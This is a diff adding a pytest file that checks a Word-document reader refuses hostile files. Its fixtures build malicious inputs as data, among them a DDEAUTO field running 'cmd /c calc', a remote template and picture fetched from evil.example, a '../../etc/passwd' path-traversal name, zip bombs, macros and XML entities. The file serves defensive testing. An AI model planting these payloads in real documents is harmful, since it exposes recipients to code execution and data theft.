@@ -1,0 +1,117 @@
+"""Word files from outside that are refused, each with its reason, before any of them is understood."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+
+import pytest
+
+from papers.errors import PapersError
+from papers.readers.word import read_blocks, read_word
+from tests.readers.word_files import MAIN, SPACES, field, para, relations, run, types, word_file
+
+SETTINGS = "word/settings.xml"
+
+
+def document(inner: str, before: str = "") -> str:
+    return f"{before}<w:document {SPACES}><w:body>{inner}</w:body></w:document>"
+
+
+def bomb() -> bytes:
+    return word_file(para("x"), parts={"word/big.xml": b"<a>" + b" " * (8 << 20) + b"</a>"})
+
+
+def overlapping() -> bytes:
+    """An archive whose directory names one stretch of data twice."""
+    data = bytearray(word_file(para("x")))
+    end = data.rindex(b"PK\x05\x06")
+    count, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
+    again = bytes(data[start : start + size]).replace(b"word/document.xml", b"word/documenu.xml")
+    data[end:end] = again
+    data[end + len(again) + 8 : end + len(again) + 20] = struct.pack("<HHII", 2 * count, 2 * count, size + len(again), start)
+    return bytes(data)
+
+
+def encrypted() -> bytes:
+    data = bytearray(word_file(para("x")))
+    at = data.rindex(b"PK\x01\x02")
+    data[at + 8] |= 1
+    return bytes(data)
+
+
+def twice() -> bytes:
+    out = io.BytesIO(word_file(para("x")))
+    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
+        archive.writestr("word/document.xml", document(para("other")))
+    return out.getvalue()
+
+
+HOSTILE = {
+    "an old binary file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old binary Office file"),
+    "no archive": (b"%PDF-1.7", "no Word file"),
+    "a damaged archive": (word_file(para("x"))[:-30], "archive is damaged"),
+    "a file without end": (b"PK\x03\x04" + b"\0" * (26 << 20), "larger than 25 MB"),
+    "a bomb": (bomb(), "times its size"),
+    "parts that overlap": (overlapping(), "overlap"),
+    "an encrypted part": (encrypted(), "encrypted"),
+    "macros": (word_file(para("x"), parts={"word/vbaProject.bin": b"x"}), "macros"),
+    "a macro type": (word_file(para("x"), parts={"[Content_Types].xml": types(MAIN.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"))}), "made to hold macros"),
+    "a workbook by another name": (word_file(para("x"), parts={"[Content_Types].xml": types("application/x")}), "no plain Word document"),
+    "entities": (word_file(parts={"word/document.xml": document(para("&x;"), '<!DOCTYPE w [<!ENTITY x "boom">]>')}), "declares XML entities"),
+    "entities in another encoding": (
+        word_file(parts={"word/document.xml": document(para("x"), '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w>').encode("utf-16")}),
+        "declares XML entities",
+    ),
+    "an encoding that hides": (word_file(parts={"word/document.xml": b"\xff\x00<w"}), "unusual encoding"),
+    "a part that is no XML": (word_file(parts={"word/document.xml": "<w:document"}), "not XML"),
+    "elements without end": (word_file(parts={"word/document.xml": "<a>" * 5000 + "</a>" * 5000}), "not XML"),
+    "a remote template": (
+        word_file(para("x"), parts={"word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", "https://evil.example/t.dotm"), external=("r1",))}),
+        "tied to a template elsewhere",
+    ),
+    "a linked picture": (word_file(para("x"), links=(("r1", "image", "https://evil.example/p.png"),), external=("r1",)), "fetches something"),
+    "an embedded object": (word_file(para("x"), links=(("r1", "oleObject", "embeddings/a.xlsx"),)), "fetches something"),
+    "an object in disguise": (word_file(para("x"), parts={"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded object"),
+    "a package within": (word_file(para("x"), parts={"word/media/image1.png": b"PK\x03\x04zip"}), "another package"),
+    "a chart's workbook with macros": (
+        word_file(para("x"), parts={"word/embeddings/a.xlsx": word_file(para("x"), parts={"xl/vbaProject.bin": b"x"})}),
+        "macros",
+    ),
+    "an unsafe name": (word_file(para("x"), parts={"word/../../etc/passwd": b"x"}), "unsafe name"),
+    "a field that runs": (word_file(para(field("DDEAUTO cmd /c calc", run("x")))), "fetches or runs"),
+    "a field that runs, split": (word_file(para('<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://x"</w:instrText></w:r>')), "fetches or runs"),
+    "a field that fetches": (word_file(para(f'<w:fldSimple w:instr=" INCLUDETEXT c:/x ">{run("x")}</w:fldSimple>')), "fetches or runs"),
+    "no body": (word_file(para("x"), parts={"_rels/.rels": relations()}), "no body"),
+    "Strict Open XML": (
+        word_file(parts={"word/document.xml": '<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
+        "Strict Open XML",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_a_hostile_file_is_refused_with_the_reason(what):
+    data, reason = HOSTILE[what]
+    for reader in (read_word, lambda given: read_blocks(given, "x")):
+        with pytest.raises(PapersError) as caught:
+            reader(data)
+        assert reason.removeprefix("no ") in " ".join(each.message for each in caught.value.problems)
+        assert all(each.fix for each in caught.value.problems)
+
+
+def test_two_parts_of_one_name_are_refused():
+    with pytest.raises(PapersError, match="the same name"):
+        read_word(twice())
+
+
+def test_every_reason_is_given_at_once():
+    data = word_file(para("x"), parts={"word/vbaProject.bin": b"x", "word/activeX/a.xml": "<a/>"})
+    with pytest.raises(PapersError) as caught:
+        read_word(data)
+    assert len(caught.value.problems) == 2
+
+
+def test_a_plain_file_passes():
+    assert read_blocks(word_file(para("Words")), "x")[1] == ()
